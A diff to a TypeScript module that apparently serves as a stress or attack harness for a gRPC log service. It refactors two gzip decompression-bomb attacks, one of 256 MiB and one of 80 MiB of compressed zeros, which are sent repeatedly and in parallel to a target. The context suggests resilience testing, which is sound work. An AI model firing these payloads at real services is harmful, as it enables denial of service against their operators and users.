@@ -21,7 +21,6 @@ export interface Target {
   readonly clientKey: string;
 }
 
-/** Begins when it is called, so that what it needs may be made before. */
 type Timed = (target: Target, untilMs: number) => Promise<void>;
 export type Attack = (target: Target, forMs: number) => Promise<void>;
 
@@ -127,17 +126,20 @@ async function repeat(
 const serialized = <T>(method: { requestSerialize: (request: T) => Buffer }, request: T): Buffer =>
   frame(method.requestSerialize(request));
 
-let bomb: Buffer | undefined;
+// Made beforehand, in no attack's time.
+const zeros = Buffer.alloc(256 * MIB);
+const framedBomb = frame(gzipSync(zeros), 1);
+const batchOfZeros = gzipSync(zeros.subarray(0, 80 * MIB));
+
 const gzipBomb: Timed = (target, untilMs) => {
-  const message = (bomb ??= frame(gzipSync(Buffer.alloc(256 * MIB)), 1));
-  return repeat(target, untilMs, logService.Produce.path, () => message, {
+  return repeat(target, untilMs, logService.Produce.path, () => framedBomb, {
     headers: { 'grpc-encoding': 'gzip' },
     parallel: 4,
   });
 };
 
 const batchBomb: Timed = (target, untilMs) => {
-  const codecs = { gzip: { compress: () => new Uint8Array(gzipSync(Buffer.alloc(80 * MIB))) } } as never;
+  const codecs = { gzip: { compress: () => new Uint8Array(batchOfZeros) } } as never;
   const batches = batchOf(['bomb'], { compression: 'gzip', codecs });
   const message = serialized(logService.Produce, {
     partitions: [{ topic: 'healthy', partition: 0, batches }],
